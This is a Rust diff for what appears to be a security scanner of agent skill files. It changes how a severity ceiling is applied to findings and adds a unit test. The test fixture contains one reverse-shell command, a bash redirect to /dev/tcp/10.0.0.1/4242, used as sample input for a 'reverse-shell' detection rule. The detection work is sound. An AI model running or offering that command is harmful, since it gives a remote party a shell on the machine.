@@ -466,12 +466,25 @@ impl<'a, 'c> SecCx<'a, 'c> {
         message: String,
         anchor: &str,
     ) {
+        self.emit_uncapped(rule, src, offset, message, anchor);
+        self.apply_ceiling(src, offset);
+    }
+
+    /// Emits `rule` at byte `offset` of source `src`, at the catalog's severity, before the
+    /// evidence model's ceiling (the caller applies it once, after any other severity).
+    fn emit_uncapped(
+        &mut self,
+        rule: &'static str,
+        src: usize,
+        offset: usize,
+        message: String,
+        anchor: &str,
+    ) {
         let s = &self.sources[src];
         let (line, col) = s.pos(offset);
         let loc = Location::at(s.rel.clone(), line, col);
         let anchor = format!("{}:{anchor}", s.path);
         self.cx.emit(rule, message, loc, &anchor);
-        self.apply_ceiling(src, offset);
     }
 
     /// The evidence model's ceiling at byte `offset` of source `src` ([`evidence::ceiling`]),
@@ -492,7 +505,9 @@ impl<'a, 'c> SecCx<'a, 'c> {
         message: String,
         anchor: &str,
     ) {
-        self.emit_at(rule, src, offset, message, anchor);
+        // The ceiling applies once, to the severity asked for: applied to the catalog's first,
+        // it would record a lowered confidence the final severity never needed.
+        self.emit_uncapped(rule, src, offset, message, anchor);
         if let Some(f) = self.cx.findings.last_mut() {
             crate::security::severity::emitted(f, severity);
         }
@@ -625,6 +640,42 @@ mod tests {
             Cow::Borrowed(text),
             true,
         )
+    }
+
+    /// A severity asked for at emission meets the evidence model's ceiling once: a finding
+    /// asked for below the ceiling keeps its confidence (no "lowered because of context" it
+    /// never needed); one above it is capped with the reason.
+    #[test]
+    fn the_ceiling_applies_once_to_the_severity_asked_for() {
+        let text = "sandbox.exec(\"bash -i >& /dev/tcp/10.0.0.1/4242 0>&1\")\n";
+        let mut cx = Cx {
+            skill: "s",
+            skill_path: "s",
+            dir_name: "s",
+            entry_path: "s/SKILL.md".into(),
+            files: &[],
+            findings: Vec::new(),
+        };
+        let mut scx = SecCx::new(&mut cx, None, Vec::new());
+        scx.sources.push(source(text));
+        let rule = "reverse-shell";
+        scx.emit_at_severity(rule, Severity::Info, 0, 20, "m".into(), "a");
+        scx.emit_at_severity(rule, Severity::Critical, 0, 20, "m".into(), "b");
+        let f = &scx.cx.findings;
+        assert_eq!(f[0].severity, Severity::Info);
+        assert!(
+            f[0].confidence_reason.is_none(),
+            "{:?}",
+            f[0].confidence_reason
+        );
+        assert_eq!(f[1].severity, Severity::Low);
+        assert!(
+            f[1].confidence_reason
+                .as_deref()
+                .is_some_and(|r| r.contains("sandbox")),
+            "{:?}",
+            f[1].confidence_reason
+        );
     }
 
     /// The binary search finds what the linear scan it replaced found, at every offset.
